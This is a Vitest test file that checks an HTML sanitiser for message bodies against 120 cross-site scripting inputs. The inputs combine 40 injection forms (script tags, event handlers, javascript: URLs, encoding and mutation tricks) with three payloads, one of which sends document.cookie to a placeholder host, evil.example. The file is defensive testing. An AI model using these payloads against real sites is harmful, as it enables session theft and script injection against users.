import { describe, expect, test } from 'vitest';
import { sanitizeBody } from './sanitize-body.ts';

/** Whatever comes out is text, and elements of exactly these forms. */
const HARMLESS = /^<(\/?(p|br|strong|b|em|i|ul|ol|li|h3|h4|a)( \/)?|a href="(https:\/\/[^"<>]*|\/[^"<>]*)")>$/;

const RUN = ['alert(1)', "window['al'+'ert'](1)", 'fetch("//evil.example/"+document.cookie)'];
const FORMS: ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<SCRIPT/x>${run}</SCRIPT\t>`,
  (run) => `<script src="data:text/javascript,${run}"></script>`,
  (run) => `<img src=x onerror="${run}">`,
  (run) => `<img/src=x/onerror=${run}>`,
  (run) => `<svg onload="${run}"></svg>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin="${run}" attributeName=x></svg>`,
  (run) => `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  (run) => `<p onclick="${run}">text</p>`,
  (run) => `<p style="background:url(javascript:${run})">text</p>`,
  (run) => `<a href="javascript:${run}">text</a>`,
  (run) => `<a href="JaVaScRiPt:${run}">text</a>`,
  (run) => `<a href="java\tscript:${run}">text</a>`,
  (run) => `<a href="java&#x0A;script:${run}">text</a>`,
  (run) => `<a href="&#106;avascript:${run}">text</a>`,
  (run) => `<a href=" \u0001javascript:${run}">text</a>`,
  (run) => `<a href="vbscript:${run}">text</a>`,
  (run) => `<a href="data:text/html,<script>${run}</script>">text</a>`,
  (run) => `<a href="https://x" onmouseover="${run}">text</a>`,
  (run) => `<a href='/x" onfocus="${run}" autofocus x="'>text</a>`,
  (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:${run}"></iframe>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<form action="javascript:${run}"><button>text</button></form>`,
  (run) => `<button formaction="javascript:${run}">text</button>`,
  (run) => `<input autofocus onfocus="${run}">`,
  (run) => `<details open ontoggle="${run}">text</details>`,
  (run) => `<video><source onerror="${run}"></video>`,
  (run) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  (run) => `<base href="javascript:${run}//">`,
  (run) => `<link rel="stylesheet" href="javascript:${run}">`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<textarea></textarea><img src=x onerror="${run}">`,
  (run) => `<!--><img src=x onerror="${run}">-->`,
  (run) => `<![CDATA[<img src=x onerror="${run}">]]>`,
  (run) => `<style>@import 'javascript:${run}';</style>`,
];

describe('S8 the markup of messages', () => {
  test('TR-G4 of 120 attacks nothing is left that could run or load', () => {
    const attacks = FORMS.flatMap((form) => RUN.map(form));
    expect(attacks).toHaveLength(120);
    for (const attack of attacks) {
      const out = sanitizeBody(attack);
      for (const element of out.match(/<[^>]*>?/g) ?? []) expect(element, attack).toMatch(HARMLESS);
      expect(sanitizeBody(out), attack).toBe(out);
    }
  });

  test('TR-G4 text, lists, emphasis and links of ours or https stay', () => {
    const body =
      '<h3>News</h3><p>One <strong>two</strong><br /></p><ul><li>three</li></ul><p><a href="/en/sports">Bet</a> <a href="https://a.example/x?y=1">out</a></p>';
    expect(sanitizeBody(body)).toBe(body);
  });

  test.each(['//evil.example', '/\\evil.example', 'http://evil.example', 'https:evil', 'ftp://x', 'mailto:a@b', ''])(
    'TR-G4 a link to %j is no link, whatever is in it',
    (href) => {
      expect(sanitizeBody(`<p>a<a href="${href}">text</a></p>`)).not.toContain('<a');
    },
  );
});
